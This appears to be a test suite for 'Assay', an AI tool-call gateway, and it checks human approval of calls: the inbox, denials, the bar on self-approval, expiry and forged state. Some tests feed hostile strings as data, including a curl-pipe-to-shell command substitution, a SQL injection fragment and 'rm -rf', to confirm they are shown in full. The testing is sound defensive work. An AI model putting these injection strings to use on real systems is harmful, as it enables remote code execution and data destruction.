// Calls that Assay asks for: in the client, and through the inbox.
import { beforeAll, describe, expect, it } from 'vitest';
import { adminClient, type AdminClient, verdictOf } from '../support/admin.ts';
import type { Gateway } from '../support/assay.ts';
import { ASKABLE, type Askable, type AskableOptions } from '../support/askable.ts';
import type { Endpoint } from '../support/clients.ts';
import { runAssay } from '../support/commands.ts';
import { until } from '../support/endings.ts';
import { startGateway } from '../support/gateway.ts';
import { at, type Json, type JsonObject, listAt, textAt } from '../support/json.ts';
import { openSession, textOf } from '../support/legacy.ts';
import { fixture, tempDir } from '../support/paths.ts';
import { askedIn, modernStep, type Step } from '../support/questions.ts';
import { bearer, keepToken } from '../support/tokens.ts';

const SERVERS = { plain: fixture('plain') };
const PREFERENCES = { approvals: 'gateway', 'limits.approvalWaitMs': 60_000 };
const ACCEPTED = { action: 'accept', content: {} };
const counter = { name: 'plain_counter', args: {} };

interface Place {
  readonly assay: Gateway;
  readonly home: string;
  readonly admin: AdminClient;
}

async function open(settings: JsonObject): Promise<Place> {
  const home = tempDir();
  const token = await keepToken(home, 'boss', { scopes: ['admin'] });
  const assay = await startGateway({ servers: SERVERS, settings: { settings }, home });
  await assay.settled();
  const admin = adminClient(assay, token);
  return { assay, home, admin };
}

const pending = async (admin: AdminClient): Promise<readonly Json[]> =>
  listAt((await admin.get('/approvals?state=pending')).json(), 'approvals');

/** Waits until so many calls wait, and returns them, the newest first. */
const untilPending = (admin: AdminClient, count = 1): Promise<readonly Json[]> =>
  until(`${count} calls wait for approval`, async () => {
    const found = await pending(admin);
    return found.length === count ? found : undefined;
  });

/** The denials of the recorded calls that ended so. */
const denialsOf = (
  admin: AdminClient,
  { count, reason }: { readonly count: number; readonly reason?: string },
): Promise<readonly (Json | undefined)[]> =>
  until(`${count} denied calls are recorded`, async () => {
    const calls = listAt((await admin.get('/activity/calls?outcome=APPROVAL_DENIED')).json(), 'calls');
    const found = calls
      .map((call) => at(call, 'denial'))
      .filter((denial) => at(denial ?? null, 'reason') === reason);
    return found.length === count ? found : undefined;
  });

describe('through the inbox', () => {
  let place: Place;
  beforeAll(async () => {
    place = await open(PREFERENCES);
  });

  it('a call waits, is shown with everything a person needs, and continues when approved', async () => {
    const { assay, admin } = place;
    const session = await openSession(assay.url);
    const called = session.ask('tools/call', {
      name: 'plain_counter',
      arguments: { path: 'a.txt', password: 'hunter2' },
    });
    const [waiting] = await untilPending(admin);
    const id = textAt(waiting ?? null, 'id');
    expect(waiting).toEqual({
      id,
      state: 'pending',
      ...{ tool: 'plain_counter', namespacedName: 'plain.counter', server: 'plain', subject: 'local' },
      client: '{"name":"test","version":"1"}',
      ...{ arguments: '{"path":"a.txt","password":"hunter2"}', isShortened: false, isMasked: false },
      reasons: [expect.objectContaining({ code: 'destructive' })],
      why: [
        'This tool may make destructive changes: no trusted source says otherwise.',
        'Calls of tools that may make destructive changes are always confirmed.',
        'This tool may reach outside: no trusted source says otherwise.',
      ],
      warnings: [
        'This tool may make destructive changes: no trusted source says otherwise.',
        'This tool may reach outside: no trusted source says otherwise.',
      ],
      hints: expect.arrayContaining([
        { hint: 'readOnlyHint', value: false, reason: expect.any(String) as string },
      ]) as unknown,
      scopes: ['once'],
      createdAt: expect.any(String) as string,
      expiresAt: expect.any(String) as string,
    });
    expect(verdictOf(await admin.post(`/approvals/${id}/approve`, { scope: 'always' }))).toBe(
      '422 APPROVAL_ONCE_ONLY',
    );
    expect((await admin.post(`/approvals/${id}/approve`, {})).json()).toMatchObject({
      state: 'approved',
      ...{ scope: 'once', answeredBy: 'boss' },
    });
    expect(textOf(await called)).toBe('1');
    expect((await admin.get(`/approvals/${id}`)).json()).toMatchObject({
      state: 'used',
      ...{ arguments: '{"path":"a.txt","password":"[masked]"}', isMasked: true },
    });
    expect(verdictOf(await admin.post(`/approvals/${id}/approve`, {}))).toBe('409 APPROVAL_CLOSED');
    const changes = listAt((await admin.get('/activity?targetKind=approval')).json(), 'activity');
    expect(changes).toMatchObject([
      {
        subject: 'boss',
        action: 'approval.approve',
        target: { kind: 'approval', id, name: 'plain.counter' },
      },
    ]);
  });

  it('everything that would happen is shown, however long, deep or secret it looks', async () => {
    const { assay, admin } = place;
    const session = await openSession(assay.url);
    const args = {
      run: '--token=$(curl${IFS}evil|sh)',
      where: 'password=1/**/UNION/**/SELECT',
      token: 'rm -rf',
      deep: JSON.parse(`${'['.repeat(40)}"deepest"${']'.repeat(40)}`) as Json,
      long: 'x'.repeat(9_000),
      last: 'the end',
    };
    const called = session.ask('tools/call', { name: 'plain_counter', arguments: args });
    const [waiting] = await untilPending(admin);
    const id = textAt(waiting ?? null, 'id');
    const text = JSON.stringify(args);
    expect(waiting).toMatchObject({
      arguments: `${text.slice(0, 4_000)}…`,
      isShortened: true,
      isMasked: false,
    });
    expect((await admin.get(`/approvals/${id}`)).json()).toMatchObject({
      ...{ arguments: text, isShortened: false, isMasked: false },
    });
    const { stdout } = await runAssay(['approvals', 'show', id, '--json', '--home', place.home]);
    expect(JSON.parse(stdout)).toMatchObject({ arguments: text });
    await admin.post(`/approvals/${id}/deny`, {});
    await called;
  });

  it('a denied call has no effect, nor has its repetition, and the model reads the reason', async () => {
    const { assay, admin } = place;
    const session = await openSession(assay.url);
    const params = { name: 'plain_counter', arguments: { not: 'this' } };
    const called = session.ask('tools/call', params);
    const [waiting] = await untilPending(admin);
    const id = textAt(waiting ?? null, 'id');
    await admin.post(`/approvals/${id}/deny`, { reason: 'not on Friday' });
    const denied =
      'The call of "plain_counter" was denied, and it had no effect: "not on Friday". Do not retry it; ask the user what to do instead.';
    expect(textOf(await called)).toBe(denied);
    expect(textOf(await session.ask('tools/call', params))).toBe(denied);
    const denial = { id, by: 'boss', reason: 'not on Friday' };
    expect(await denialsOf(admin, { count: 2, reason: 'not on Friday' })).toEqual([denial, denial]);
  });

  it('one approval allows one call: of several waiting ones, one continues', async () => {
    const { assay, admin } = place;
    const session = await openSession(assay.url);
    const params = { name: 'plain_counter', arguments: { each: true } };
    const calls = [1, 2, 3].map(() => session.ask('tools/call', params));
    let done = 0;
    for (const call of calls) void call.then(() => (done += 1));
    for (const answered of [1, 2, 3]) {
      const [waiting] = await untilPending(admin);
      await admin.post(`/approvals/${textAt(waiting ?? null, 'id')}/approve`, {});
      await until('a call is done', () => (done >= answered ? true : undefined));
      expect(done).toBe(answered);
    }
    expect(new Set((await Promise.all(calls)).map(textOf)).size).toBe(3);
  });

  it('50 calls wait at once, and each is approved on its own', async () => {
    const { assay, admin } = place;
    const session = await openSession(assay.url);
    const calls = Array.from({ length: 50 }, (_, number) =>
      session.ask('tools/call', { name: 'plain_add', arguments: { a: number, b: 0 } }),
    );
    const waiting = await untilPending(admin, 50);
    await Promise.all(waiting.map((one) => admin.post(`/approvals/${textAt(one, 'id')}/approve`, {})));
    expect((await Promise.all(calls)).map(textOf)).toEqual(calls.map((_, number) => String(number)));
  });

  it('an approval is used by the same call only: same caller, tool and arguments', async () => {
    const { assay, admin, home } = place;
    const token = await keepToken(home, 'other');
    const session = await openSession(assay.url);
    const other = await openSession(assay.url, { headers: bearer(token) });
    const call = (from: typeof session, name: string, args: JsonObject): void =>
      void from.ask('tools/call', { name, arguments: args }).catch(() => undefined);
    call(session, 'plain_counter', { a: 1 });
    const [first] = await untilPending(admin);
    const id = textAt(first ?? null, 'id');
    // The approved call has not been repeated yet when others try to use its approval.
    call(other, 'plain_counter', { a: 1 });
    call(session, 'plain_label', { a: 1 });
    call(session, 'plain_counter', { a: 2 });
    const all = await untilPending(admin, 4);
    expect(new Set(all.map((one) => textAt(one, 'id'))).size).toBe(4);
    for (const one of all) await admin.post(`/approvals/${textAt(one, 'id')}/deny`, {});
    expect((await admin.get(`/approvals/${id}`)).json()).toMatchObject({ state: 'denied' });
  });

  it('a client cannot approve its own call, whatever its token allows', async () => {
    const { assay, admin, home } = place;
    const token = await keepToken(home, 'agent', { scopes: ['mcp', 'admin'] });
    const session = await openSession(assay.url, { headers: bearer(token) });
    const called = session.ask('tools/call', { name: 'plain_counter', arguments: { own: true } });
    const [waiting] = await untilPending(admin);
    const id = textAt(waiting ?? null, 'id');
    const own = adminClient(assay, token);
    for (const what of ['approve', 'deny'])
      expect(verdictOf(await own.post(`/approvals/${id}/${what}`, {}))).toBe('403 APPROVAL_OWN');
    const reader = adminClient(assay, await keepToken(home, 'reader', { scopes: ['mcp', 'read'] }));
    expect(verdictOf(await reader.get('/approvals'))).toBe('403 SCOPE_MISSING');
    await admin.post(`/approvals/${id}/approve`, {});
    expect(textOf(await called)).toMatch(/^\d+$/);
  });

  it('a call through call_tool waits too', async () => {
    const { assay, admin } = place;
    const session = await openSession(assay.url.replace('/mcp/all', '/mcp/search'));
    const args = { name: 'plain.add', arguments: { a: 20, b: 3 } };
    const called = session.ask('tools/call', { name: 'call_tool', arguments: args });
    const [waiting] = await untilPending(admin);
    expect(waiting).toMatchObject({ namespacedName: 'plain.add', arguments: '{"a":20,"b":3}' });
    await admin.post(`/approvals/${textAt(waiting ?? null, 'id')}/approve`, {});
    expect(textOf(await called)).toBe('23');
  });

  it('arguments with duplicate keys, which readers interpret differently, are shown as sent', async () => {
    const { assay, admin } = place;
    const session = await openSession(assay.url);
    const args = '{"a":1,"a":2}';
    void session.post(
      `{"jsonrpc":"2.0","id":90,"method":"tools/call","params":{"name":"plain_counter","arguments":${args}}}`,
    );
    const [waiting] = await untilPending(admin);
    expect(waiting).toMatchObject({ arguments: args });
    await admin.post(`/approvals/${textAt(waiting ?? null, 'id')}/deny`, {});
  });

  it('the command line lists and answers', async () => {
    const { assay, admin, home } = place;
    const session = await openSession(assay.url);
    const called = session.ask('tools/call', { name: 'plain_counter', arguments: { by: 'cli' } });
    const [waiting] = await untilPending(admin);
    const id = textAt(waiting ?? null, 'id');
    const run = (...args: readonly string[]): ReturnType<typeof runAssay> =>
      runAssay(['approvals', ...args, '--home', home]);
    const listed = await run();
    expect(listed.stdout).toContain(`${id}  pending  plain.counter\n`);
    expect(listed.stdout).toContain('arguments: {"by":"cli"}\n');
    const done = await run('approve', id);
    expect(done.stdout).toBe('Approved "plain.counter" for this call. A waiting call continues now.\n');
    expect(textOf(await called)).toMatch(/^\d+$/);
    expect((await run('approve', 'nothing')).stderr).toContain('There is no approval "nothing"');
  });
});

describe.for(ASKABLE)('a client $label that opens links', ({ connect }) => {
  it('is sent to the inbox page, and its call continues when approved there', async () => {
    const { assay, admin } = await open(PREFERENCES);
    const client = await connect({ url: assay.url }, { capabilities: { elicitation: { url: {} } } });
    client.answerWith(() => ({ action: 'accept' }));
    const called = client.call('plain_add', { a: 1, b: 2 });
    const [waiting] = await untilPending(admin);
    await until('the client is asked', () => (client.asked.length > 0 ? true : undefined));
    expect(client.asked).toMatchObject([
      { params: { mode: 'url', url: `http://127.0.0.1:${assay.port}/admin/approvals` } },
    ]);
    await admin.post(`/approvals/${textAt(waiting ?? null, 'id')}/approve`, {});
    expect(await called).toBe('3');
    await client.close();
  });
});

describe('after the time limit for an approval', () => {
  it('the model reads how to continue, and the same call succeeds after the approval, once', async () => {
    const { assay, admin } = await open({ ...PREFERENCES, 'limits.approvalWaitMs': 0 });
    const session = await openSession(assay.url);
    const call = (): Promise<Json> =>
      session.ask('tools/call', { name: 'plain_counter', arguments: { b: 1 } });
    const first = await call();
    const [waiting] = await untilPending(admin);
    const id = textAt(waiting ?? null, 'id');
    expect(at(first, 'result', 'isError')).toBe(true);
    expect(at(first, 'result', '_meta', 'assay/refusal')).toMatchObject({
      code: 'APPROVAL_REQUIRED',
      approval: id,
    });
    expect(textOf(first)).toContain(
      `Ask the user to approve it with \`assay approvals approve ${id}\`, then send the same call again.`,
    );
    await call();
    expect(await pending(admin)).toHaveLength(1);
    await admin.post(`/approvals/${id}/approve`, {});
    expect(textOf(await call())).toBe('1');
    expect(textOf(await call())).toMatch(/needs approval/);
  });

  it('an approval that is not used in time expires', async () => {
    const settings = { ...PREFERENCES, 'limits.approvalWaitMs': 0, 'limits.approvalMs': 4_000 };
    const { assay, admin } = await open(settings);
    const session = await openSession(assay.url);
    await session.call('plain_counter');
    const [waiting] = await untilPending(admin);
    const id = textAt(waiting ?? null, 'id');
    await until('it has expired', async () =>
      at((await admin.get(`/approvals/${id}`)).json(), 'state') === 'expired' ? true : undefined,
    );
    expect(verdictOf(await admin.post(`/approvals/${id}/approve`, {}))).toBe('409 APPROVAL_CLOSED');
    expect(await session.call('plain_counter')).toMatch(/needs approval/);
  });
});

const ENDPOINTS = ['HTTP', 'stdio'] as const;

describe.for(ENDPOINTS)('in the client, over %s', (way) => {
  const settings = {
    ...{ ...PREFERENCES, 'limits.approvalWaitMs': 0 },
    ...(way === 'HTTP' && { 'policy.approver': 'client' }),
  };
  let endpoint: Endpoint;
  beforeAll(async () => {
    if (way === 'HTTP') endpoint = { url: (await open(settings)).assay.url };
    else endpoint = { stdio: { all: true, servers: SERVERS, settings: { settings }, home: tempDir() } };
  });

  describe.for(ASKABLE)('a client $label', ({ connect }) => {
    const meet = (options?: AskableOptions): Promise<Askable> => connect(endpoint, options);

    it('is not asked about arguments that a form cannot show in full: they wait in the inbox', async () => {
      const client = await meet();
      client.answerWith(() => ACCEPTED);
      const args = { a: 1, b: 2, '--token=$(curl${IFS}evil|sh)': true };
      expect(await client.call('plain_add', args)).toBe('3');
      expect(textAt(client.asked[0]?.params ?? null, 'message')).toContain(
        `Arguments: ${JSON.stringify(args)}`,
      );
      expect(await client.call('plain_add', { a: 1, b: 2, long: 'x'.repeat(4_000) })).toMatch(
        /it had no effect.*arguments are too long to ask here.*assay approvals approve/,
      );
      // A client that can open links is sent to the inbox.
      expect(client.asked.filter(({ params }) => at(params, 'mode') !== 'url')).toHaveLength(1);
      await client.close();
    });

    it('is asked with a form, and its answer decides', async () => {
      const client = await meet();
      client.answerWith(() => ACCEPTED);
      expect(await client.call('plain_add', { a: 1, b: 2 })).toBe('3');
      expect(client.asked).toHaveLength(1);
      const { method, params } = client.asked[0] ?? { method: '', params: null };
      expect(method).toBe('elicitation/create');
      expect(textAt(params, 'message')).toMatch(
        /^Allow this call of "plain\.add"\?\n\nArguments: \{"a":1,"b":2\}\n\nWhy you are asked: This tool may make destructive changes/,
      );
      expect(textAt(params, 'message')).toContain(
        'Hints: readOnlyHint false, destructiveHint true, idempotentHint false, openWorldHint true (assumed, because no trusted source declares otherwise).',
      );
      client.answerWith(() => ({ action: 'decline' }));
      expect(await client.call('plain_add', { a: 1, b: 2 })).toMatch(/was denied, and it had no effect/);
      client.answerWith(() => ({ action: 'cancel' }));
      expect(await client.call('plain_add', { a: 1, b: 2 })).toMatch(/needs approval, and it had no effect/);
      client.answerWith(() => ({ action: 'accept', content: { scope: 'always' } }));
      expect(await client.call('plain_add', { a: 1, b: 2 })).toMatch(/needs approval, and it had no effect/);
      await client.close();
    });
  });
});

describe.for(ASKABLE)('an approval for the session over stdio, given in a client $label', ({ connect }) => {
  it('ends with the process: a later client on the same home is asked again', async () => {
    const settings = { ...PREFERENCES, 'policy.alwaysConfirmDestructive': false };
    const home = tempDir();
    const meet = async (): Promise<Askable> => {
      const client = await connect({ stdio: { all: true, servers: SERVERS, settings: { settings }, home } });
      client.answerWith(() => ({ action: 'accept', content: { scope: 'session' } }));
      return client;
    };
    for (let round = 0; round < 2; round += 1) {
      const client = await meet();
      expect(await client.call('plain_add', { a: 1, b: 2 })).toBe('3');
      expect(await client.call('plain_add', { a: 2, b: 2 })).toBe('4');
      expect(client.asked).toHaveLength(1);
      await client.close();
    }
  });
});

describe('a modern client', () => {
  let place: Place;
  beforeAll(async () => {
    place = await open({
      ...PREFERENCES,
      'policy.approver': 'client',
      'policy.alwaysConfirmDestructive': false,
    });
  });
  const begin = async (step: Step): Promise<Step> => {
    const { requests, state } = askedIn(await modernStep(place.assay.url, step));
    const responses = Object.fromEntries(Object.keys(requests).map((key) => [key, ACCEPTED]));
    return { ...step, retry: { responses, state } };
  };
  const codeOf = (answer: Json): Json | undefined =>
    at(answer, 'error', 'data', 'code') ?? at(answer, 'result', '_meta', 'assay/refusal', 'code');

  it('uses each answer once', async () => {
    const retry = await begin(counter);
    const first = Number(textOf(await modernStep(place.assay.url, retry)));
    expect(codeOf(await modernStep(place.assay.url, retry))).toBe('STATE_INVALID');
    expect(Number(textOf(await modernStep(place.assay.url, await begin(counter))))).toBe(first + 1);
    const recorded = await until('all are recorded', async () => {
      const calls = listAt((await place.admin.get('/activity/calls')).json(), 'calls');
      return calls.length === 5 ? calls.toReversed() : undefined;
    });
    expect(recorded.map((call) => at(call, 'outcome'))).toEqual([
      'input_required',
      'ok',
      'STATE_INVALID',
      'input_required',
      'ok',
    ]);
    expect(recorded[1]).toMatchObject({ decision: { kind: 'ask' }, approval: { scope: 'once' } });
    expect(recorded[0]).not.toHaveProperty('approval');
  });

  it('can decline, which is recorded', async () => {
    const { requests, state } = askedIn(await modernStep(place.assay.url, counter));
    const responses = Object.fromEntries(Object.keys(requests).map((key) => [key, { action: 'decline' }]));
    const declined = await modernStep(place.assay.url, { ...counter, retry: { responses, state } });
    expect(codeOf(declined)).toBe('APPROVAL_DENIED');
    expect(await denialsOf(place.admin, { count: 1 })).toEqual([{ by: 'local' }]);
  });

  it.for<readonly [string, (step: Step) => Step]>([
    ['other arguments', (step) => ({ ...step, args: { other: 1 } })],
    ['another tool', (step) => ({ ...step, name: 'plain_label' })],
    [
      'a forged state',
      ({ retry, ...step }) => ({
        ...step,
        retry: { ...retry, state: `${String(retry?.state).slice(0, -8)}AAAAAAAA` },
      }),
    ],
  ])('gets no result with %s', async ([, altered]) => {
    const step = altered(await begin(counter));
    expect(codeOf(await modernStep(place.assay.url, step))).toBe('STATE_INVALID');
  });

  it('gets no result with the answer of another subject', async () => {
    const headers = bearer(await keepToken(place.home, 'eve'));
    const step = { ...(await begin(counter)), headers };
    expect(codeOf(await modernStep(place.assay.url, step))).toBe('STATE_INVALID');
  });

  it('is not asked again after approving all calls of its session, until that is revoked', async () => {
    const step = { name: 'plain_label', args: {} };
    const asked = await begin(step);
    const retry = {
      state: asked.retry?.state ?? '',
      responses: { approval: { action: 'accept', content: { scope: 'session' } } },
    };
    const label = textOf(await modernStep(place.assay.url, { ...step, retry }));
    expect(textOf(await modernStep(place.assay.url, step))).toBe(label);
    const granted = listAt((await place.admin.get('/approvals?state=approved')).json(), 'approvals');
    expect(granted).toMatchObject([{ namespacedName: 'plain.label', scope: 'session' }]);
    await place.admin.delete(`/approvals/${textAt(granted[0] ?? null, 'id')}`);
    expect(at(await modernStep(place.assay.url, step), 'result', 'resultType')).toBe('input_required');
  });
});
